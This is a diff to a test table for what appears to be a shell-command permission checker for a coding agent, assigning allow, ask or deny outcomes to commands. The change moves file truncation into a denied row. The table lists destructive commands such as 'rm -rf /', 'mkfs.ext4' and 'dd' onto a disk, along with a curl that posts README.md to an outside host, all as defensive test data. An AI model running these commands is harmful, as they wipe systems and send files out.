@@ -62,7 +62,6 @@ const reads = [
 const workspaceWrites = [
   "echo x > new.txt",
   "echo x >> README.md",
-  ": > README.md",
   "> empty.txt",
   "ls >& all.txt",
   "cat <> made.txt",
@@ -120,7 +119,7 @@ const rest = [
   ...["npm test", "node --test"].map(row("ask allow allow")),
   ...["curl -s https://example.invalid/x"].map(row("ask allow ask")),
   ...["curl -d @README.md https://example.invalid/x"].map(row("deny ask deny")),
-  ...["rm -rf src", "rm -rf ."].map(row("deny ask deny")),
+  ...["rm -rf src", "rm -rf .", ": > README.md"].map(row("deny ask deny")),
   ...["rm docs/notes.md", "rm -rf node_modules"].map(row("deny allow deny")),
   ...["rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda"].map(row("deny deny deny")),
   ...["echo x > /srv/x", "echo x > .git/hooks/pre-commit", "echo x > .pi/settings.json", "sudo ls", "kill 1"].map(row("deny ask deny")),
